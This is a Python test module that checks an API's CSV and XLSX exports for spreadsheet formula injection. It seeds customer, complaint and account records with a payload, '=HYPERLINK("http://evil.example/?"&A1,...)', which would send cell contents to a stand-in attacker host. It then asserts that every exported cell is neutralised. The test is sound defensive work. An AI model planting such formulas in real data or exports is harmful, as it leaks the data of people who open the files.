"""No cell of any export is run by a spreadsheet, whoever wrote what is in it (X12, issue 18)."""

import csv
import io
from collections.abc import Iterator
from typing import Any, Final
from urllib.parse import quote

import httpx
import psycopg
import pytest
from openpyxl import load_workbook

from services.lists.cell import harmless
from services.lists.rows import CSV
from services.lists.sheet import XLSX
from tests.services.api.conftest import fill

pytestmark = pytest.mark.asyncio(loop_scope="module")
CUSTOMER, CASE, ACCOUNT, PERSON = "C1", "7", "A1", "wang"
TEXT: Final = '=HYPERLINK("http://evil.example/?"&A1,"open")'
WHERE: Final = {"customer_id": CUSTOMER, "category": "customer", "stream_id": CUSTOMER, "list_name": "complaints"}
ASKED: Final = {"from": "2000-01-01", "to": "2999-01-01", "role": "sales", "as_of": "2999-01-01"}
DENIED: Final = """
    insert into access_denial (person, roles, action, thing, method, address)
    values (%(person)s, '{=1}', %(text)s, %(text)s, 'GET', %(text)s)
"""


async def do_business(api: httpx.AsyncClient) -> None:
    """Write formulas wherever a text is taken."""

    async def post(path: str, *ids: str, **body: Any) -> None:
        answer = await api.post(path.format(*(quote(each, safe="") for each in ids)), json=body)
        assert answer.is_success, (path, answer.text)

    await post("/account-managers/{}/enrol", PERSON, full_name=TEXT)
    await post("/account-managers/{}/change-roles", PERSON, roles=["sales"], department="east")
    for each in (CUSTOMER, "C2"):
        await post("/customers/{}/register", each, full_name=TEXT, region=TEXT)
        await post("/customers/{}/assign-owner", each, owner_id=PERSON)
    await post("/customers/{}/assign-tier", CUSTOMER, tier="gold", reason=TEXT)
    paid = {"amount": "10.00", "currency": "USD"}
    await post(
        "/customers/{}/record-purchase", CUSTOMER, purchase="=P1", purchased_on="2024-01-01", quantity=1, amount=paid
    )
    case = {"customer_id": CUSTOMER, "channel": "hotline", "summary": TEXT}
    await post("/complaints/{}/receive", CASE, **case)
    await post("/complaints/{}/triage", CASE, severity="S1")
    await post("/complaints/{}/take-in-charge", CASE, owner=PERSON)
    await post("/credit-accounts/{}/open", ACCOUNT, customer_id=CUSTOMER, currency="USD")
    days = {"invoice_date": "2024-01-01", "due_date": "2024-02-01"}
    await post("/credit-accounts/{}/record-invoice", ACCOUNT, invoice="=I1", amount=paid, **days)
    await post("/credit-accounts/{}/record-receipt", ACCOUNT, receipt="=R1", amount=paid)
    await post("/access-requests/{}/request", "Z1", by=PERSON, purpose="visit", customers=[CUSTOMER])


@pytest.fixture(scope="module")
def filled(database_url: str) -> str:
    fill(database_url, do_business)
    with psycopg.connect(database_url) as connection:
        connection.execute(DENIED, {"person": PERSON, "text": TEXT})
    return database_url


def exports(document: dict[str, Any]) -> Iterator[tuple[str, dict[str, str]]]:
    """Name each list that comes as a file, and what it must be asked with."""
    for path, methods in document["paths"].items():
        if CSV not in methods.get("get", {}).get("responses", {}).get("200", {}).get("content", {}):
            continue
        said = methods["get"].get("parameters", [])
        asked = {
            each["name"]: ASKED.get(each["name"], "state")
            for each in said
            if each["in"] == "query" and each["required"]
        }
        places = {
            each["name"]: quote(WHERE.get(each["name"], "none"), safe="") for each in said if each["in"] == "path"
        }
        yield path.format(**places), asked


def is_run(cell: str) -> bool:
    """Tell whether a spreadsheet would take a cell of CSV for more than a text or a number."""
    return harmless(cell) != cell and not cell.removeprefix("-").replace(".", "", 1).isdigit()


async def test_no_cell_of_any_export_is_a_formula(lists: httpx.AsyncClient) -> None:
    addresses = list(exports((await lists.get("/openapi.json")).json()))
    written = {CSV: 0, XLSX: 0}
    for path, asked in addresses:
        text = await lists.get(path, params=asked, headers={"Accept": CSV})
        assert text.status_code in {200, 404, 406, 422}, (path, text.text)
        if not text.is_success:
            continue
        book = await lists.get(path, params=asked, headers={"Accept": XLSX})
        cells = [cell for row in csv.reader(io.StringIO(text.text)) for cell in row]
        assert not [cell for cell in cells if is_run(cell)], path
        written[CSV] += any(cell.startswith("'") for cell in cells)
        # Some reports come as CSV alone.
        if book.is_success:
            found = [cell for sheet in load_workbook(io.BytesIO(book.content)) for row in sheet for cell in row]
            assert not [cell.value for cell in found if cell.data_type == "f" or cell.hyperlink], path
            written[XLSX] += any(str(cell.value)[:1] in "=+-@" for cell in found)
    assert len(addresses) > 50
    # Not only lists without a row were read.
    assert min(written.values()) > 12
